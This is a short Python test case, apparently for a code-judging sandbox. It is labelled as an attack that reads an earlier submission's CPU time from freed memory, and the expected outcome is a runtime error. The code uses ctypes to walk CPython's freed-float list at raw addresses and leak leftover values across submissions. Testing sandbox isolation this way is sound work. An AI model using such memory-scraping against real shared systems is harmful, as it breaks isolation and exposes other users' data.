# attack: read the CPU time of an earlier submission in memory that the fork server has freed
# expect: RE
# problem: echo

import ctypes
import os
import time


def free_floats():
    number = [float(len("a"))]
    place = id(number[0])
    del number
    found = []
    for _ in range(100):
        # Each free float leads to the next one where an object has its type.
        place = ctypes.c_uint64.from_address(place + 8).value
        if not place:
            break
        found.append(ctypes.c_double.from_address(place + 16).value)
    return found


# Numbers with a point would themselves be left by the compiler.
FOUND = any(20 < number * 1000 < 900 for number in free_floats())


def echo(n):
    until = time.process_time_ns() + 80_000_000
    while time.process_time_ns() < until:
        pass
    return n if FOUND else os._exit(0)
